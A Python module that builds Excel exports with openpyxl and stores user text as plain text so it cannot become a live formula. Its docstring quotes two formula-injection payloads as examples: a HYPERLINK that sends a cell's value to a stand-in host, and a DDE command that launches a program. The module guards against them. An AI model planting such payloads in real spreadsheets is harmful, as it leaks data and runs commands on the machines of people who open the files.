"""Excel files we write: user text goes in as text, never as a formula.

A unit name or a person's name such as `=HYPERLINK("http://x/?"&B3,"点击")` or
`=cmd|' /C calc'!A0` would otherwise become a live formula in the office's Excel (OWASP: CSV /
formula injection). Every export builds its rows with `append_row`: each string cell is stored
as a string, exactly as typed, and one that starts like a formula (=, +, -, @, tab, CR) is also
marked "quote prefix", so Excel keeps it text when someone edits the cell.
"""

from __future__ import annotations

from collections.abc import Iterable
from io import BytesIO

from openpyxl.cell.cell import ERROR_CODES, Cell
from openpyxl.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def text_cell(ws: Worksheet, value: str) -> Cell:
    """A cell holding `value` as text, whatever it starts with."""
    # row and column are placeholders, set by append (a write-only worksheet's append fails on
    # a cell without them)
    cell = Cell(ws, row=1, column=1, value=value)
    cell.data_type = "s"  # openpyxl guessed a formula for a leading "="; it is text
    if value.startswith(FORMULA_STARTS):
        cell.quotePrefix = True
    return cell


def append_row(ws: Worksheet, values: Iterable) -> None:
    """Append one row: strings as text cells, numbers, dates and None as they are.

    openpyxl stores a string as text unless it starts with "=" (a formula) or is an error
    code ("#N/A"): only those need a cell of their own, which keeps a 10,000-row export fast
    (a cell object per string costs about a third of the time)."""
    ws.append([text_cell(ws, v) if isinstance(v, str) and _risky(v) else v for v in values])


def _risky(value: str) -> bool:
    return value.startswith(FORMULA_STARTS) or value in ERROR_CODES


def to_bytes(wb: Workbook) -> bytes:
    out = BytesIO()
    wb.save(out)
    return out.getvalue()
